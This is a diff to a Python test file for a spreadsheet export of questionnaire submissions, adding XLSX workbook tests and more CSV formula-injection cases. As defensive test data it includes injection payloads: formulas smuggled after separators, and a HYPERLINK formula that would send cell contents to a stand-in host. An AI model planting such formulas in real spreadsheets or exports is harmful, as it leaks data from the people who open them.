@@ -1,17 +1,20 @@
-"""A file for spreadsheets: opened anywhere it shows what was said, and carries nothing out."""
+"""Files for spreadsheets: opened anywhere they show what was said, and carry nothing out."""
 
 import csv
 import io
 from collections import Counter
+from datetime import datetime
 
 import pytest
+from openpyxl import load_workbook
 
 from pre_visit.snapshot import document_of
 from questionnaire.distance import Distance
 from staff.export.cells import number_cell, text_cell
-from staff.export.spreadsheet import csv_of
+from staff.export.csv_file import csv_of
+from staff.export.xlsx_file import xlsx_of
 from tests.factories import Chance, as_given, healthy_runner, random_person
-from tests.staff.export.submissions import a_record, a_submission, a_submission_with
+from tests.staff.export.submissions import NOON, a_record, a_submission, a_submission_with
 
 
 @pytest.fixture(scope="module")
@@ -49,6 +52,14 @@ def row_of(one, documents):
         ("\x00=1+1", "'=1+1"),
         ("\u202e=1+1", "'=1+1"),
         ("＝1+1", "'＝1+1"),
+        ("KL;=1+1", "KL;'=1+1"),
+        ("KL, =1+1", "KL, '=1+1"),
+        ('KL";"=1+1', 'KL";"\'=1+1'),
+        ("KL|-1;+1", "KL|'-1;'+1"),
+        ("KL\t=1+1", "KL =1+1"),
+        ("KL\n@SUM(A1)", "KL\n'@SUM(A1)"),
+        ("00417", "00417"),
+        ("3-4", "3-4"),
         ("a = b", "a = b"),
         ("a\r\nb\rc\nd", "a\nb\nc\nd"),
         ("a\x1b[31mb\x7f\x85", "a[31mb"),
@@ -65,7 +76,7 @@ def test_a_text_stays_a_text(typed, cell):
 
 @pytest.mark.parametrize(
     ("number", "cell"),
-    [(None, ""), (0, "0"), (7, "7"), (7.0, "7"), (-1, "-1"), (0.5, "0.5"), (11.7482112,) * 2],
+    [(0, "0"), (7, "7"), (7.0, "7"), (-1, "-1"), (0.5, "0.5"), (11.7482112,) * 2],
 )
 def test_a_number_stays_a_number(number, cell):
     assert str(cell) == number_cell(number)
@@ -83,7 +94,7 @@ def test_a_row_says_what_was_answered_and_told(questionnaire, rulebook, document
     row = row_of(one, documents)
 
     assert row["reference"] == "KL-204"
-    assert row["visit_at"] == "2026-11-24T09:30"
+    assert row["visit_at"] == "2026-11-24 09:30"
     assert (row["received_utc"], row["sent_utc"]) == ("2026-11-23 12:00", "2026-11-23 12:00")
     assert row["is_complete"] == "yes"
     assert row["version_questions"] == questionnaire.version
@@ -142,7 +153,7 @@ def test_what_cannot_be_read_has_a_row_of_its_own(documents):
     row = row_of(a_submission_with(None, reference=None), documents)
 
     assert {value for name, value in row.items() if value} == {
-        *("k4m7x2p9qt", "2026-11-24T09:30", "Robin Hale", "1", "2026-11-23 12:00", "new")
+        *("k4m7x2p9qt", "2026-11-24 09:30", "Robin Hale", "1", "2026-11-23 12:00", "new")
     }
 
 
@@ -172,7 +183,7 @@ def test_nasty_words_reach_no_other_cell(questionnaire, rulebook, documents):
     tame = a_submission(questionnaire, rulebook, healthy_runner(own_question="Why?"))
     written = healthy_runner(own_question=NASTY, activities=[[NASTY, 0]])
     nasty = a_submission(questionnaire, rulebook, written, reference=NASTY)
-    expected = '\'=HYPERLINK("http://a.example?"&A1)\n<script>", "; -1'
+    expected = '\'=HYPERLINK("http://a.example?"&A1)\n<script>", "; \'-1'
     differs = dict(row_of(nasty, documents).items() - row_of(tame, documents).items())
 
     assert differs == {
@@ -182,3 +193,58 @@ def test_nasty_words_reach_no_other_cell(questionnaire, rulebook, documents):
         "activities": f"{expected}: 0",
         "activities_words": f"{expected}: 0 out of 10",
     }
+
+
+def book_of(submissions, documents):
+    """The rows of a workbook as somebody else's program reads them: a cell by its column."""
+    heads, *rows = load_workbook(io.BytesIO(xlsx_of(submissions, documents, NOON))).active.rows
+    names = [cell.value for cell in heads]
+    return [dict(zip(names, row, strict=True)) for row in rows]
+
+
+@pytest.mark.parametrize("reference", ["00417", "1E5", "3-4", "=1+1", "-2", "@SUM(A1)", "TRUE"])
+def test_a_reference_in_a_workbook_is_a_text_letter_for_letter(
+    questionnaire, rulebook, documents, reference
+):
+    one = a_submission(questionnaire, rulebook, healthy_runner(), reference=reference)
+    (row,) = book_of([one], documents)
+    cell = row["reference"]
+
+    assert (cell.value, cell.data_type, cell.number_format) == (reference, "s", "@")
+
+
+def test_in_a_workbook_days_are_days_and_numbers_are_numbers(questionnaire, rulebook, documents):
+    answers = healthy_runner(goal_date="2027-05-16", pain_average=3, longest_recent_km=16.5)
+    one = a_submission(questionnaire, rulebook, answers, visit_at="2026-11-24")
+    (row,) = book_of([one], documents)
+
+    assert (row["goal_date"].value, row["goal_date"].is_date) == (datetime(2027, 5, 16), True)
+    assert (row["visit_at"].value, row["visit_at"].is_date) == (datetime(2026, 11, 24), True)
+    assert (row["sent_utc"].value, row["sent_utc"].is_date) == (datetime(2026, 11, 23, 12), True)
+    assert (row["pain_average"].value, row["longest_recent_km"].value) == (3, 16.5)
+    assert row["submission"].data_type == "n"
+
+
+def test_a_workbook_has_the_columns_and_the_words_of_the_csv(questionnaire, rulebook, documents):
+    """But for the sign that keeps a formula from running, which only CSV needs."""
+    people = (random_person(questionnaire, Chance(number), 0.9) for number in range(10))
+    submissions = [a_submission(questionnaire, rulebook, one, reference="=1") for one in people]
+    book, rows = book_of(submissions, documents), rows_of(submissions, documents)
+
+    assert [list(row) for row in book] == [list(row) for row in rows]
+    for cells, texts in zip(book, rows, strict=True):
+        for name, text in texts.items():
+            is_day = cells[name].is_date
+            shown = f"{cells[name].value:%Y-%m-%d %H:%M}" if is_day else cells[name].value
+            if shown is None or isinstance(shown, str):
+                assert (shown or "").removesuffix(" 00:00") == text.lstrip("'"), name
+            else:
+                assert number_cell(shown) == text, name
+
+
+def test_a_workbook_takes_old_days_and_long_words(questionnaire, rulebook, documents):
+    answers = healthy_runner(goal_date="1066-10-14", own_question="a" * 40_000)
+    (row,) = book_of([a_submission(questionnaire, rulebook, answers)], documents)
+
+    assert row["goal_date"].value == "1066-10-14"
+    assert row["own_question"].value == "a" * 32_767
